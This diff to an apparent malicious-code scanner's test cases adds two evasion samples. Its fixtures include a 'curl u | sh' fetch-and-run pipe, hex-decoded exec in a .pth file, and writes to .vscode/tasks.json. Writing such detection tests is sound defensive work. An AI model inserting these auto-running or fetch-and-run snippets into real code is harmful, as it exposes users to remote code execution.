@@ -338,6 +338,8 @@ CASES: Final = (
     ),
     Case("C2", "hit", "high", "import os;os.system('python -c \"exec(bytes.fromhex(1))\"')\n", "demo.pth"),
     Case("C2", "twin", None, "import subprocess\nsubprocess.run(['python', '-c', 'print(eval(x))'])\n"),
+    Case("C6", "evasion", "medium", "import os\nos.system('true;' * 900 + 'x')\n"),
+    Case("C3", "evasion", "high", f"import os, subprocess\nsubprocess.run(['env', {'1, ' * 60}'curl u | sh'])\n"),
     Case("C13", "hit", "medium", "def f():\n    open('.vscode/tasks.json', 'w')\n"),
     Case("C13", "twin", None, "def f():\n    return open('.vscode/tasks.json').read()\n"),
     Case(
